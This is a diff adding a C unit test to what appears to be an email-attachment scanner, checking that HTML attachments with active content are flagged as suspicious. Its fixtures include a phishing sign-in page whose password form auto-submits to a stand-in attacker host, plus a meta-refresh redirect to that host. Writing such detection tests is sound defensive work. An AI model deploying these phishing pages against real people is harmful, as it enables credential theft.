@@ -127,6 +127,46 @@ test_plain_files(void **state)
 	assert_true(r.reasons & AR_TYPE_MISMATCH);
 }
 
+/* Issue 15, defect 5: a web page that can act (a password form posting to
+ * another domain, a script, a meta refresh) is at least suspicious; a
+ * plain page is clean. */
+static void
+test_active_html(void **state)
+{
+	static const char phish[] =
+		"<!DOCTYPE html><html><head><title>Sign in</title></head>"
+		"<body><FORM method=post action=\"https://evil.example.net/c\">"
+		"<input type=password name=p></form><script>document.forms[0]"
+		".submit()</script></body></html>\n";
+	static const char *const pages[] = {
+		"<html><body><script src=\"x.js\"></script></body></html>",
+		"<html><head><meta http-equiv=\"Refresh\" content=\"0; "
+		"url=https://evil.example.net/\"></head></html>",
+		"<html><body><form><input name=q></form></body></html>",
+		"<html><body><a href=\"javascript:go()\">x</a></body></html>",
+	};
+	static const char plain[] = "<html><body><p>Your order shipped."
+				    "</p></body></html>\n";
+	struct attach_result r;
+
+	(void)state;
+	r = run("invoice.html", (const unsigned char *)phish, strlen(phish));
+	assert_int_not_equal(r.verdict, ATTACH_CLEAN);
+	assert_true(r.reasons & AR_ACTIVE_HTML);
+	assert_string_equal(attach_reason_name(AR_ACTIVE_HTML), "active_html");
+	/* By its type too, under another name. */
+	r = run("invoice", (const unsigned char *)phish, strlen(phish));
+	assert_true(r.reasons & AR_ACTIVE_HTML);
+	for (size_t i = 0; i < sizeof(pages) / sizeof(pages[0]); i++) {
+		r = run("page.htm", (const unsigned char *)pages[i],
+			strlen(pages[i]));
+		if (r.verdict == ATTACH_CLEAN || !(r.reasons & AR_ACTIVE_HTML))
+			fail_msg("page %zu judged clean", i);
+	}
+	r = run("letter.html", (const unsigned char *)plain, strlen(plain));
+	assert_int_equal(r.verdict, ATTACH_CLEAN);
+}
+
 static void
 test_executables(void **state)
 {
@@ -1192,6 +1232,7 @@ main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_plain_files),
+		cmocka_unit_test(test_active_html),
 		cmocka_unit_test(test_executables),
 		cmocka_unit_test(test_ole_macros),
 		cmocka_unit_test(test_zip),
